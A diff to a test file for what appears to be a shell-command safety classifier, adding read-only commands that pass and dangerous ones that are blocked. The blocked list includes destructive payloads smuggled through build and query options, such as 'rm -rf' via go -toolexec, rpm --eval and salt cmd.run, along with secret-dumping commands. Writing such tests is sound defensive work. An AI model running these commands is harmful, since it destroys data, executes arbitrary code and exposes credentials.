@@ -139,6 +139,9 @@ describe("what else is known to only read or to stay in the folder", () => {
     "find config -name '*.json' -print0 | xargs -0 -n1 jq empty",
     "psql postgresql://app@localhost/app -c 'select 1'",
     "ssh prod-1 uptime",
+    "salt '*' state.apply test=True",
+    "rpm -qi bash",
+    "go test ./...",
     "echo $NODE_ENV",
     "kubectl get pods | awk '{print $1}'",
   ])("%s runs", async (plan) => {
@@ -188,6 +191,15 @@ describe("what else is known to only read or to stay in the folder", () => {
     "ssh -A bastion uptime",
     "ssh -o SendEnv=* host true",
     "ssh -v -E ~/.bashrc git@evil.example true",
+    // Options that make a build or a query run a program, in one-dash spellings; what a dry run does not hold back.
+    "go build -toolexec='sh -c \"rm -rf ~/important\"' ./...",
+    "go test -exec='sh -c x' ./...",
+    "gcc -wrapper sh,-c,x main.c",
+    "pytest -o addopts='-p evil_plugin' -q",
+    "rpm -q --eval '%(rm -rf ~/important)'",
+    "salt-call cmd.run 'rm -rf /srv' test=True",
+    "puppet apply --noop site.pp",
+    "pip download some-sdist==1.0",
     // What the redaction takes for a secret when a command prints it, and the whole environment, go to the model.
     "pass show work/aws-root",
     "bw get password github.com",
